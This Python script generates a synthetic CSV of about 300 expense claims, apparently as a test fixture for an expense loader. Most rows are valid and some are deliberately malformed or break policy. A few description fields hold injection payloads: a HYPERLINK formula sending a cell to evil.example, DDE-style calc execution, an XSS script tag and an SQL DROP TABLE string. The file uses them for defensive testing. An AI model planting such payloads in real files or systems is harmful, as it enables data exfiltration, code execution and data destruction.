"""Makes claims.csv: about 300 claims of one company, most of them good, some bad in every way.

    python -m examples.expenses.make_claims > examples/expenses/claims.csv

The seed is fixed, so the file comes out the same; it is committed all the same, to be looked at.
"""

from __future__ import annotations

import csv
import io
import random
import sys
from dataclasses import dataclass, replace
from datetime import date, timedelta

from examples.expenses.loading import COLUMNS
from examples.expenses.people import PEOPLE

__all__ = ["make"]

GOOD = 243
FIRST_DAY = date(2025, 2, 3)

PLACES = (
    "Lisbon", "Kraków", "Göteborg", "Zürich", "Malmö", "Porto", "Warsaw", "Leeds", "Basel", "Lyon",
    "Hamburg", "Gdańsk", "Dublin", "Utrecht", "Bergen", "Łódź", "Graz", "Antwerp",
)  # fmt: skip
FIRMS = (
    "Halvorsen AB", "Nordwind Logistik", "Café Sólheimar", "Brightwell & Sons", "Atelier Moreau",
    "Kestrel Freight", "Dąbrowski Sp. z o.o.", "Fjordtek", "Oakhurst Clinics", "Quintela Vinhos",
)  # fmt: skip
WHAT: dict[str, tuple[tuple[str, float, float], ...]] = {
    "meals": (
        ("Dinner with {firm} after the quarterly review", 38, 145),
        ("Lunch during the site visit in {place}", 11, 34),
        ("Team lunch, welcome for the new colleague", 62, 148),
        ("Breakfast, early train to {place}", 6.5, 18),
        ("Coffee and pastries for the workshop with {firm}", 14, 46),
    ),
    "travel": (
        ("Train to {place} and back, second class", 29, 190),
        ("Flight to {place}, one bag", 89, 460),
        ("Taxi from {place} airport, last bus had gone", 22, 74),
        ("Parking, three days at the station in {place}", 24, 57),
        ("Rental car in {place}, two days", 98, 260),
        ("Mileage: own car to {firm}, 214 km", 64, 65),
        ("Metro day pass, {place}", 4.2, 9.8),
    ),
    "lodging": (
        ("Two nights in {place}, trade fair rates", 210, 520),
        ("One night in {place}, visit to {firm}", 84, 179),
        ("Airport hotel {place}, cancelled connection", 97, 164),
    ),
    "equipment": (
        ("Docking station for the desk in {place}", 118, 240),
        ("Noise-cancelling headset", 79, 249),
        ("Second monitor, 27 inch", 189, 399),
        ("Label printer for the warehouse", 134, 310),
        ("USB-C cables and two adapters", 19, 48),
        ("Ergonomic chair, after the workplace check", 349, 720),
    ),
    "training": (
        ("Two-day course: negotiating, {place}", 690, 1450),
        ("Ticket for the data engineering conference in {place}", 320, 880),
        ("First-aid refresher", 45, 85),
        ("Exam fee, project management certificate", 260, 390),
    ),
    "other": (
        ("Flowers for the reception, opening day", 24, 68),
        ("Courier: signed contracts to {firm}", 16, 49),
        ("Visa fee for the trip to {place}", 60, 160),
        ("Postage, samples to {firm}", 7, 33),
    ),
}
WEIGHTS = {"meals": 30, "travel": 34, "lodging": 12, "equipment": 10, "training": 6, "other": 8}
CURRENCY_WEIGHTS = {"EUR": 62, "GBP": 11, "CHF": 8, "SEK": 8, "PLN": 6, "USD": 5}
PER_EURO = {"EUR": 1.0, "USD": 1.0, "GBP": 0.8, "CHF": 0.9, "SEK": 10.5, "PLN": 4.1}
# Good claims whose text would do harm in a spreadsheet or a careless page.
HARMLESS_HERE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Lunch receipt")',
    "+49 30 555 0199 call-back, phone card in Berlin",
    "-2+3+cmd|' /C calc'!A0 (typed by a joker, honest taxi otherwise)",
    "@SUM(1+9)*cmd, printer paper",
    "<script>alert('paid')</script> train ticket",
    "Robert'); DROP TABLE claim;-- school visit, bus fare",
    "Déjeuner \N{EN DASH} «Chez Zoé», avec l\N{RIGHT SINGLE QUOTATION MARK}équipe \N{HOT BEVERAGE}",
    "書籍「データ設計」および送料",
    "ארוחת צהריים עם הלקוח",
)


@dataclass(frozen=True)
class Row:
    number: str
    claimant: str
    amount: str
    currency: str
    date: str
    submitted: str
    category: str
    description: str
    receipt: str

    def cells(self) -> list[str]:
        return [getattr(self, name) for name in COLUMNS]


def make(seed: int = 20250203) -> bytes:
    """The file's content."""
    dice = random.Random(seed)
    good = [_good(dice, n) for n in range(GOOD)]
    for n, text in enumerate(HARMLESS_HERE):
        at = 17 + n * 23
        good[at] = replace(good[at], description=text)
    lines: list[bytes] = [_line(row.cells()) for row in good]
    for position, line in _bad(dice, good):
        lines.insert(position, line)
    return _line(COLUMNS) + b"".join(lines)


def _good(dice: random.Random, n: int) -> Row:
    category = dice.choices(list(WEIGHTS), list(WEIGHTS.values()))[0]
    text, low, high = dice.choice(WHAT[category])
    currency = dice.choices(list(CURRENCY_WEIGHTS), list(CURRENCY_WEIGHTS.values()))[0]
    euros = dice.uniform(low, high)
    claimant = dice.choice([each.id for each in PEOPLE.values()])
    submitted = FIRST_DAY + timedelta(days=n // 2 + n // 9)
    spent = submitted - timedelta(days=dice.choice((0, 1, 1, 2, 2, 3, 5, 8, 13, 21, 34)))
    with_receipt = euros > 40 or dice.random() < 0.7
    return Row(
        number=f"C-{1001 + n}",
        claimant=claimant,
        amount=f"{euros * PER_EURO[currency]:.2f}",
        currency=currency,
        date=spent.isoformat(),
        submitted=submitted.isoformat(),
        category=category,
        description=text.format(place=dice.choice(PLACES), firm=dice.choice(FIRMS)),
        receipt=f"R-{2 * n + 311:05d}" if with_receipt else "",
    )


def _bad(dice: random.Random, good: list[Row]) -> list[tuple[int, bytes]]:
    """Bad rows, each with where it goes: after the first rows, before the last."""
    numbers = iter(range(7001, 8000))

    def model() -> Row:
        """A fresh number and a good row's contents, with an amount that nobody else has."""
        row = dice.choice(good)
        day = date.fromisoformat(row.submitted) - timedelta(days=4)
        return replace(
            row, number=f"C-{next(numbers)}", category="travel", currency="EUR",
            amount=f"{dice.uniform(60, 400):.2f}", date=day.isoformat(), receipt="R-09001",
        )  # fmt: skip

    def later(row: Row, days: int) -> str:
        return (date.fromisoformat(row.submitted) + timedelta(days=days)).isoformat()

    def repeated(row: Row) -> Row:
        """The same thing claimed again under another number."""
        return replace(row, number=f"C-{next(numbers)}")

    policy = [
        *(replace(model(), amount=a) for a in ("-84.20", "-1.00", "-12000", "-0.01", "0.00")),
        *(replace(row := model(), date=later(row, days)) for days in (1, 3, 30, 365, 2200)),
        *(replace(model(), currency=code) for code in ("XXX", "BTC", "DEM", "EUX", "AAA")),
        *(replace(model(), category="meals", amount=a) for a in ("151.00", "480.00", "9999.99")),
        *(replace(model(), amount=amount) for amount in ("2500.01", "18000.00", "9999999.99")),
        *(replace(row := model(), date=later(row, -days)) for days in (91, 120, 400)),
        *(replace(model(), receipt="") for _ in range(6)),
        *(replace(model(), category="lodging", amount="1250.00") for _ in range(2)),
    ]  # fmt: skip
    unreadable = [
        replace(model(), amount=""),
        replace(model(), description=""),
        replace(model(), claimant=""),
        replace(model(), number=""),
        replace(model(), date=""),
        replace(model(), amount="twelve euros"),
        replace(model(), amount="1,200.00"),
        replace(model(), amount="NaN"),
        replace(model(), amount="1e3"),
        replace(model(), amount="10.005"),
        replace(model(), amount="99999999999999999999.00"),
        replace(model(), date="2025-02-30"),
        replace(model(), date="31/03/2025"),
        replace(model(), submitted="yesterday"),
        replace(model(), claimant="mallory.x"),
        replace(model(), category="bribes"),
        replace(model(), currency="Euro"),
        replace(model(), description="?!"),
        replace(model(), description="Taxi\x00 with a NUL in it"),
        replace(model(), description="Dinner \N{RIGHT-TO-LEFT OVERRIDE}00.21 rof"),
        replace(model(), description="aaaa " * 400),
        replace(model(), description="Receipt text pasted whole. " * 1200),
    ]
    broken = [
        _line(model().cells()).replace(b"R-09001", "Quittung Stra\xdfe".encode("latin-1")),
        _line(replace(model(), description="Caf\xe9").cells(), "latin-1"),
        _line(replace(model(), description="H\xf4tel, \u20ac 120").cells(), "cp1252"),
        _line(model().cells()[:-2]),
        _line([*model().cells(), "and", "more"]),
        b'C-7990,"ana.kovac"oops,12.00,EUR,2025-03-01,2025-03-02,meals,Lunch,\r\n',
    ]
    other = "Same number, other claim"
    again = [_line(replace(row, description=other).cells()) for row in dice.choices(good, k=3)]
    again.append(_line(good[-40].cells()))

    placed = [(dice.randrange(20, GOOD), _line(row.cells())) for row in policy + unreadable]
    placed += [(dice.randrange(20, GOOD), line) for line in broken]
    # These have to come after what they repeat.
    placed += [(GOOD, line) for line in again]
    placed += [(GOOD, _line(repeated(row).cells())) for row in dice.sample(good[40:200], 5)]
    return placed


def _line(cells: list[str] | tuple[str, ...], encoding: str = "utf-8") -> bytes:
    text = io.StringIO()
    csv.writer(text).writerow(cells)
    return text.getvalue().encode(encoding)


if __name__ == "__main__":
    sys.stdout.buffer.write(make())
